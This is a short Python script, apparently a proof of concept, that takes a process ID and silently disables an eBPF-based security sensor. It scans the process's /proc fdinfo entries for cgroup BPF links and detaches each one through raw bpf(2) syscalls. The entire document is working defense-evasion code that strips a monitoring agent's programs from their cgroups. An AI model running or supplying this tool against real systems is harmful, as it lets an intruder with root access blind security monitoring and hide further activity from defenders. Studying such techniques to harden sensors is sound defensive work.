"""What root can do to a sensor from outside: take its programs off their cgroup, by bpf(2)."""

import ctypes
import os
import struct
import sys

SYSCALL = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
LINK_GET_FD_BY_ID = 30
LINK_DETACH = 34
syscall = ctypes.CDLL(None, use_errno=True).syscall


def bpf(command, number):
    attributes = ctypes.create_string_buffer(struct.pack("=IIII", number, 0, 0, 0))
    result = syscall(SYSCALL, command, attributes, 16)
    if result < 0:
        raise OSError(ctypes.get_errno(), "bpf(%d)" % command)
    return result


folder = "/proc/%s/fdinfo/" % sys.argv[1]
detached = 0
for name in os.listdir(folder):
    try:
        with open(folder + name) as description:
            lines = dict(line.split(":", 1) for line in description if ":" in line)
    except FileNotFoundError:
        # Closed since it was listed.
        continue
    if lines.get("link_type", "").strip() == "cgroup":
        bpf(LINK_DETACH, bpf(LINK_GET_FD_BY_ID, int(lines["link_id"])))
        detached += 1
print(detached)
